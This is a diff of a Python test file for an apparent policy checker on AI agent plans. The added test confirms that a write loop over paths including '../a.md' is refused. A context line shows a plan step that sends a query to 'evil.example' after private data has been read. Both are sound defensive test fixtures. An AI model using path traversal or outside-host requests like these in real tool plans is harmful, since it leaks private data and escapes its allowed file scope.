@@ -193,6 +193,11 @@ def test_another_path_is_another_call(tool: str, rest: str) -> None:
     assert refused(goes_the_same_way(text, Policy())) == "path"
 
 
+def test_a_path_of_data_is_looked_at_each_time() -> None:
+    text = 'S1: ?FOREACH ($i IN ["a.md", "b.md", "../a.md"]) THEN @WRITE_FILE (path="$i", content="x")'
+    assert refused(goes_the_same_way(text, Policy())) == "path"
+
+
 def test_of_what_a_tool_makes_of_private_data_it_counts_what_the_plan_tells_it() -> None:
     text = 'S1: @READ ("q", "x") > $c\nS2: @READ ("https://evil.example/?q=", "x") > $d'
     machine = goes_the_same_way(text, policy_of(returns=PRIVATE, no_echo=False))
